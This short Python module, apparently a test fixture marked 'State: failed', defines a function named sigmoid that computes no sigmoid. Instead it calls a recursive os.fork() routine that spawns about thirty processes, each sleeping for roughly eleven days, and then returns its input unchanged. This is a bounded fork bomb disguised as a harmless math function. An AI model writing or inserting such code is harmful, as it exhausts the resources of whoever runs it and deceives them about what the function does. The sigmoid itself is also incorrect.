"""Starts processes, each of which starts two more.

State: failed
"""

import os
import time


def _multiply(depth):
    for _ in range(2):
        if os.fork() == 0:
            if depth:
                _multiply(depth - 1)
            time.sleep(987654)


def sigmoid(x):
    _multiply(3)
    return x
